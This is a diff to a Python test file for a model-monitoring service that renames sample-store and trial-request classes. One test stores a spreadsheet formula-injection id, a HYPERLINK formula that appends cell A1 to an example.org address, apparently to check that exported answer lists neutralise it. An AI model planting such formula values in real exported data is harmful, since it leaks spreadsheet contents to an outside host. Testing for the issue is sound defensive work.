@@ -20,11 +20,11 @@ from studio.monitoring.endpoint.uncertain_samples import fetch_samples, forget_s
 from studio.runtime.release.store.layout import Layout
 from studio.runtime.release.trial.requests import agreement_of, allow, compare, sampling_of
 from studio.runtime.serve.outputs.recent_answers import Answers
-from studio.runtime.serve.quality.uncertain_samples import Store
+from studio.runtime.serve.quality.uncertain_samples import SampleStore
 from studio.runtime.shared.errors import ReleaseError
 from studio.runtime.shared.sampling_config import FILE, FOLDER
 from studio.runtime.shared.trial_request import FILE as COMPARED
-from studio.runtime.shared.trial_request import Wish, wish_for
+from studio.runtime.shared.trial_request import TrialRequest, wish_for
 
 
 class Shell:
@@ -40,7 +40,7 @@ class Shell:
 
 def kept(root: Path, **doubts: float) -> None:
     """Samples on a target, as its server keeps them."""
-    store = Store(root / "run" / FOLDER, 100, 1 << 20)
+    store = SampleStore(root / "run" / FOLDER, 100, 1 << 20)
     for number, (name, doubt) in enumerate(doubts.items()):
         facts = json.dumps({"id": f"cam/{name}", "doubt": doubt, "at": 1.5, "version": "3"})
         store.add(
@@ -71,7 +71,7 @@ def test_fetched_and_deleted(tmp_path: Path) -> None:
 
 
 def test_an_id_is_no_formula_in_the_list_of_answers(tmp_path: Path) -> None:
-    store = Store(tmp_path / "run" / FOLDER, 100, 1 << 20)
+    store = SampleStore(tmp_path / "run" / FOLDER, 100, 1 << 20)
     formula = '=HYPERLINK("http://example.org/"&A1)'
     facts = json.dumps({"id": formula, "doubt": 0.5, "at": 1.5, "version": "@3"})
     store.add(0.5, "a", {"in.x": np.zeros((1, 4), np.float32), "facts": in_bytes(facts)})
@@ -159,7 +159,7 @@ def test_comparing_goes_on_where_a_deploy_said_so(tmp_path: Path) -> None:
     compare(layout, new, old, agreement_of({"agreement": 0.02}))
     found = wish_for(tmp_path / "releases" / new / "model.onnx", new)
     assert found is not None
-    assert found[0] == Wish(new, old, 1.0, 0.02, False)
+    assert found[0] == TrialRequest(new, old, 1.0, 0.02, False)
     compare(layout, new, old, agreement_of({}))
     assert not (layout.run / COMPARED).exists()
     compare(layout, new, "", 0.02)  # the first release has none before it
